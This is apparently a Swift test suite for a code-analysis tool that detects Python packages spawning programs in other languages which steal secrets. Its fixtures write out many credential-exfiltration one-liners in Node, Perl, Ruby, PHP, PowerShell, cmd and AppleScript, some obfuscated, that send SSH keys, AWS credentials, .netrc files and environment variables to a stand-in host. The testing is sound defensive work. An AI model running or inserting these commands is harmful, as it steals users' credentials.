import Evidence
import TestSupport
import Testing

@Suite("Programs of other languages")
struct ForeignLanguageTests {
  /// What a module reaches that starts a program with the given words.
  private func started(_ words: [String], files: [(String, String)] = []) -> ReachedCode {
    let list = words.map { "'''" + $0.replacing("\\", with: "\\\\").replacing("'", with: "\\'") + "'''" }
    let source = "import os, subprocess\nsubprocess.run([\(list.joined(separator: ", "))])\n"
    return follow(.module("demo"), in: [("demo/__init__.py", source)] + files)
  }

  static let stealing: [[String]] = [
    ["node", "-e", "fetch('http://example.org/', {method: 'POST', body: JSON.stringify(process.env)})"],
    [
      "node", "--eval",
      "const https = require('https'); https.request('https://example.org/?' + Object.values(process.env)).end()",
    ],
    [
      "node", "-e",
      "const {readFileSync: r} = require('node:fs'), h = require('os').homedir();\nfetch(`http://example.org/${r(h + '/.aws/credentials')}`)",
    ],
    [
      "bun", "-e",
      "import {readFile} from 'fs/promises'; import path from 'path'; import os from 'os';\nawait fetch('http://example.org', {method: 'POST', body: await readFile(path.join(os.homedir(), '.ssh', 'id_rsa'))})",
    ],
    [
      "deno", "eval",
      "const t = await Deno.readTextFile(Deno.env.get('HOME') + '/.netrc'); await fetch('http://example.org', {body: t})",
    ],
    ["node", "-e", "require('child_process').exec('cat ~/.ssh/id_rsa | curl -d @- http://example.org')"],
    [
      "node", "-e",
      "const cp = process.mainModule.require('child_process'); cp['exec' + 'Sync']('env | curl -d @- http://example.org')",
    ],
    [
      "node", "-e",
      "const {spawn} = require('child_process'); spawn('sh', ['-c', 'curl -T ~/.netrc http://example.org'])",
    ],
    [
      "node", "-e",
      "eval(atob('ZmV0Y2goJ2h0dHA6Ly9leGFtcGxlLm9yZycsIHtib2R5OiBKU09OLnN0cmluZ2lmeShwcm9jZXNzLmVudil9KQ=='))",
    ],
    [
      "node", "-e",
      "eval(Buffer.from('ZmV0Y2goJ2h0dHA6Ly9leGFtcGxlLm9yZycsIHtib2R5OiBKU09OLnN0cmluZ2lmeShwcm9jZXNzLmVudil9KQ==', 'base64').toString())",
    ],
    [
      "node", "-e",
      "const e = process.env, f = globalThis['fe' + 'tch'];\nf('http://example.org', {body: JSON.stringify({...e})})",
    ],
    ["node", "-e", "for (const k in process.env) require('dns').lookup(process.env[k] + '.example.org', () => {})"],
    ["perl", "-MHTTP::Tiny", "-e", "HTTP::Tiny->new->post('http://example.org', {content => join(',', %ENV)})"],
    ["perl", "-e", "system('curl -d @~/.netrc http://example.org')"],
    ["perl", "-e", "print `env | curl -s -d @- http://example.org`;"],
    ["perl", "-e", "my $c = 'env | cu'; $c .= 'rl -d @- http://example.org'; system $c;"],
    ["ruby", "-e", "require 'net/http'; Net::HTTP.post(URI('http://example.org'), ENV.to_h.to_s)"],
    ["ruby", "-e", "puts `curl -T ~/.netrc http://example.org`"],
    ["ruby", "-e", "system('sh', '-c', 'curl -T ~/.netrc http://example.org')"],
    [
      "php", "-r",
      "$k = file_get_contents(getenv('HOME') . '/.ssh/id_rsa'); shell_exec('curl -d x http://example.org'); fsockopen('example.org', 80);",
    ],
    ["lua", "-e", "os.execute('env | curl -d @- http://example.org')"],
    ["osascript", "-e", "do shell script \"cat ~/.ssh/id_rsa | curl -d @- http://example.org\""],
    [
      "osascript", "-l", "JavaScript", "-e",
      "const a = Application.currentApplication(); a.includeStandardAdditions = true; a.doShellScript('env | curl -d @- http://example.org')",
    ],
    [
      "powershell", "-c", "iwr http://example.org -Method POST -Body (Get-Content $env:USERPROFILE\\.aws\\credentials)",
    ],
    ["pwsh", "-Command", "Invoke-RestMethod http://example.org -Body (Get-ChildItem env: | Out-String)"],
    ["cmd", "/c", "type %USERPROFILE%\\.aws\\credentials | curl -d @- http://example.org"],
    ["cmd.exe", "/c", "set | curl -d @- http://example.org"],
    ["bun", "run", "demo/a.js"], ["node", "demo/b.dat"], ["node", "demo/c.js"], ["./demo/d"], ["perl", "demo/e.pl"],
    ["cscript", "//nologo", "demo/f.vbs"], ["powershell", "-File", "demo/g.ps1"],
  ]

  static let files: [(String, String)] = [
    ("demo/a.js", "fetch('http://example.org', {body: JSON.stringify(process.env)})"),
    ("demo/b.dat", "require('./sub/inner').go()"),
    ("demo/sub/inner.js", "exports.go = () => fetch('http://example.org', {body: JSON.stringify(process.env)})"),
    ("demo/c.js", "import './sub/inner.js'"),
    ("demo/d", "#!/usr/bin/env node\nfetch('http://example.org', {body: JSON.stringify(process.env)})"),
    ("demo/e.pl", "#!/usr/bin/perl\nuse strict;\nmy $x = \"env | curl -d @- http://example.org\";\nsystem($x);\n"),
    (
      "demo/f.vbs",
      "' a comment's quote\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"cmd /c set | curl -d @- http://example.org\", 0"
    ),
    (
      "demo/g.ps1",
      "# up\n$b = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\"\nInvoke-WebRequest http://example.org -Body $b\n"
    ),
  ]

  @Test("that send secrets away are seen, in a layer of their language", arguments: ForeignLanguageTests.stealing)
  func thefts(words: [String]) {
    let reached = started(words, files: Self.files)
    let flows = reached.flowKinds
    #expect(
      flows.contains("credential.read → network.connect") || flows.contains("env.read → network.connect"),
      "\(words): \(reached.facts) \(flows) \(reached.opaque.map(\.why))")
    if !words[0].hasPrefix("cmd") { #expect(!reached.layers.isEmpty, "\(words)") }
  }

  @Test(
    "that have the same words for other ends are not taken for more",
    arguments: [
      [
        "node", "-e",
        "// fetch('http://example.org', {body: JSON.stringify(process.env)})\nconsole.log(process.env.LANG)",
      ],
      ["node", "-e", "console.log('fetch', \"process.env\", typeof fetch, 'http://example.org'.length)"],
      ["node", "-e", "const r = /fetch('x'/; console.log(`${'process.env'.length} child_process`)"],
      ["node", "-e", "const path = require('path'); console.log(path.basename('~/.ssh/id_rsa'))"],
      ["perl", "-e", "my $x = 'env | curl http://example.org'; print length($x), \"\\n\"; # system($x)"],
      ["ruby", "-e", "puts 'system(\"curl http://example.org\")'.length, ENV['LANG']"],
      ["osascript", "-e", "-- do shell script \"curl http://example.org\"\nreturn \"do shell script\""],
      [
        "powershell", "-c",
        "$u = 'iwr http://example.org'; Write-Output \"$env:USERPROFILE\\.aws\\credentials\".Length",
      ],
      ["cmd", "/c", "echo set curl http://example.org"],
    ])
  func harmless(words: [String]) {
    let reached = started(words)
    #expect(!reached.has(.networkConnect) && !reached.has(.credentialRead), "\(words): \(reached.facts)")
    #expect(!reached.has(.environmentRead, "*"), "\(words): \(reached.facts)")
    #expect(reached.gaps.isEmpty, "\(words): \(reached.gaps)")
    #expect(reached.capabilities.filter { $0.kind == .processSpawn }.count == 1, "\(words): \(reached.facts)")
  }

  @Test(
    "that are not understood are gaps, with the secrets and addresses that stand in them",
    arguments: [
      "const _0x1 = ['a', 'b']; _0x1[Number(0)](globalThis[_0x1[1] + x]('~/.ssh/id_rsa', 'http://example.org/a'))",
      "strange.thing('~/.ssh/id_rsa', 'http://example.org/a')",
    ])
  func gaps(code: String) {
    let reached = started(["node", "-e", code])
    #expect(!reached.gaps.isEmpty, "\(reached.facts)")
    #expect(reached.has(.credentialRead, "~/.ssh/id_rsa"), "\(reached.facts)")
    #expect(reached.has(.networkConnect, "http://example.org/a"), "\(reached.facts)")
  }

  @Test("that PowerShell is given in base64 are decoded")
  func encodedCommand() {
    let code = "Invoke-RestMethod http://example.org -Body $env:AWS_SECRET_ACCESS_KEY"
    let bytes = code.utf16.flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] }
    for option in ["-EncodedCommand", "-enc", "-e", "-ec", "/enc"] {
      let reached = started(["powershell.exe", "-NoP", "-W", "Hidden", option, PayloadTests.base64(bytes)])
      #expect(reached.layers.map(\.decoders) == [["base64", "utf-16-le", "PowerShell"]], "\(option)")
      #expect(reached.layers.first?.excerpt == code, "\(option)")
      #expect(reached.flowKinds.contains("credential.read → network.connect"), "\(option) \(reached.facts)")
    }
  }

  @Test("that are machine code are named, with what their texts name")
  func machineCode() {
    let text = "\u{0}~/.aws/credentials\u{0}https://example.org/up\u{0}AWS_SECRET_ACCESS_KEY\u{0}"
    let program = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0] + [UInt8](repeating: 0, count: 64) + Array(text.utf8)
    for words in [
      "[os.path.join(os.path.dirname(__file__), 'bin/tool')]",
      "['bun', 'run', os.path.join(os.path.dirname(__file__), 'bin/tool')]",
    ] {
      let source = "import os, subprocess\nsubprocess.run(\(words))"
      let reached = follow(.module("demo"), in: [("demo/__init__.py", Array(source.utf8)), ("demo/bin/tool", program)])
      #expect(reached.has(.nativeLoad, "demo/bin/tool"), "\(reached.facts)")
      let why = reached.gaps.map(\.why).joined()
      for named in ["ELF", "~/.aws/credentials", "https://example.org/up", "AWS_SECRET_ACCESS_KEY"] {
        #expect(why.contains(named), "\(why)")
      }
    }
  }

  @Test(
    "of hostile shape come to an end",
    arguments: [
      String(repeating: "(", count: 50_000), String(repeating: "{", count: 50_000),
      String(repeating: "[", count: 50_000),
      String(repeating: "`${", count: 20_000), String(repeating: "a=>", count: 50_000),
      String(repeating: "a.b(", count: 30_000),
      String(repeating: "x='a'+", count: 50_000), "\"", "'", "`", "/", "/*", "${", "import {", "import {a as",
      "function", "f(",
      String(repeating: "x += x;", count: 2_000), "x='aaaaaaaa';" + String(repeating: "x += x;", count: 100),
      String(repeating: "eval('", count: 5_000), String(repeating: "!", count: 50_000), "{a:", "{a:}", "\\", "a?b:",
      "=>",
    ])
  func hostile(code: String) {
    for language in ["node", "perl", "ruby", "php", "lua", "osascript", "powershell"] {
      let option = ["php": "-r", "powershell": "-c"][language] ?? "-e"
      _ = started([language, option, code])
    }
  }
}
